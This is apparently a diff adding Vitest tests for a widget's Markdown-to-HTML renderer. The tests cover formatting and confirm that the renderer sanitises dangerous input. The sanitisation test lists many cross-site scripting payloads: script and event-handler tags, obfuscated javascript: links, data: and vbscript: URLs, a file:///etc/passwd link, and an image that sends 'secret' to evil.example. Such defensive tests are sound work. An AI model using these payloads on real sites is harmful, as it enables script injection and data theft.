@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { parseMarkdown } from '../../../../src/widget/markdown/parse-markdown.ts';
+import { planBlocks } from '../../../../src/widget/markdown/plan-blocks.ts';
+import { elementsOf, outline } from './plan-text.ts';
+
+const labels = { table: 'Table', code: 'Code' };
+const plan = (text: string): ReturnType<typeof planBlocks> => planBlocks(parseMarkdown(text).tokens, labels);
+const draw = (text: string): string => plan(text).map(outline).join('');
+
+const link = 'rel="noopener noreferrer nofollow" target="_blank"';
+const box = 'class="scroll" tabindex="0" role="group"';
+
+describe('Markdown as a plan of nodes', () => {
+  it.each([
+    ['headings begin below those of the panel', '# A\n\n## B\n\n##### C', '<h3>A</h3><h4>B</h4><h6>C</h6>'],
+    ['text styles', '**a** *b* ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
+    ['a hard line break', 'a  \nb', '<p>a<br></br>b</p>'],
+    ['nested lists', '- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
+    ['a list that does not begin at one', '3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
+    ['a loose list has paragraphs', '- a\n\n- b', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
+    ['task lists show their state', '- [x] a\n- [ ] b', '<ul><li>☑ a</li><li>☐ b</li></ul>'],
+    ['quotes', '> a\n>\n> b', '<blockquote><p>a</p><p>b</p></blockquote>'],
+    ['entities are characters', 'a &amp; b &#8212; &lt;c&gt; &bogus;', '<p>a & b — <c> &bogus;</p>'],
+    ['but not in code', '`&amp;`', '<p><code>&amp;</code></p>'],
+    ['a link tells nothing and opens beside', '[a](https://x.example/)', `<p><a href="https://x.example/" ${link}>a</a></p>`],
+    ['a bare address is a link', 'www.x.example', `<p><a href="http://www.x.example" ${link}>www.x.example</a></p>`],
+    ['an image is its alternative text', '![a cat](https://x.example/cat.png)', '<p>a cat</p>'],
+    [
+      'code scrolls in a box of its own and keeps its language',
+      '```js\n<b>\n```',
+      `<pre ${box} aria-label="Code" data-language="js"><code><b></code></pre>`,
+    ],
+    [
+      'a table scrolls in a box of its own',
+      '| a | b |\n|---|--:|\n| 1 | 2 |',
+      `<div ${box} aria-label="Table"><table><thead><tr><th scope="col">a</th><th scope="col" class="align-right">b</th></tr>` +
+        '</thead><tbody><tr><td>1</td><td class="align-right">2</td></tr></tbody></table></div>',
+    ],
+  ])('%s', (_title, text, expected) => {
+    expect(draw(text)).toBe(expected);
+  });
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    'a <b onclick="alert(1)">b</b>',
+    '<style>*{display:none}</style>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '[a](javascript:alert(1))',
+    '[a](JaVaScRiPt:alert(1))',
+    '[a](java&#115;cript:alert(1))',
+    '[a](javascript&colon;alert(1))',
+    '[a](java\tscript:alert(1))',
+    '[a](<java\nscript:alert(1)>)',
+    '[a](&#1;javascript:alert(1))',
+    '[a](data:text/html,<script>alert(1)</script>)',
+    '[a](vbscript:msgbox(1))',
+    '[a](//evil.example/)',
+    '[a](/\\evil.example/)',
+    '[a](\\\\evil.example)',
+    '[a](file:///etc/passwd)',
+    '[a](blob:https://x.example/1)',
+    '[a][b]\n\n[b]: javascript:alert(1)',
+    '<javascript:alert(1)>',
+    '![a](javascript:alert(1))',
+    '![a](https://evil.example/?q=secret)',
+    '[a](https://x.example/ "\\" onmouseover=\\"alert(1)")',
+    '<a href="https://x.example" style="position:fixed">a</a>',
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+  ])('takes nothing that runs, loads or disguises itself from %j', (text) => {
+    const elements = plan(text).flatMap(elementsOf);
+    for (const { tag, attributes } of elements) {
+      expect(['script', 'img', 'svg', 'style', 'iframe', 'b', 'object']).not.toContain(tag);
+      for (const [name, value] of Object.entries(attributes ?? {})) {
+        expect(name).not.toMatch(/^(?:on|style|src)/);
+        if (name === 'href') expect(value).toMatch(/^https:\/\/x\.example/);
+      }
+    }
+  });
+
+  it('shows HTML as the text it is', () => {
+    expect(draw('<b>bold</b>')).toBe('<p><b>bold</b></p>');
+    expect(plan('<b>bold</b>')[0]?.children).toEqual(['<b>', 'bold', '</b>']);
+  });
+
+  it('shows text that is nested deeper than any reader follows as plain text', () => {
+    const text = '>'.repeat(20_000);
+    const blocks = plan(text);
+    expect(blocks.length).toBeGreaterThan(0);
+  });
+});
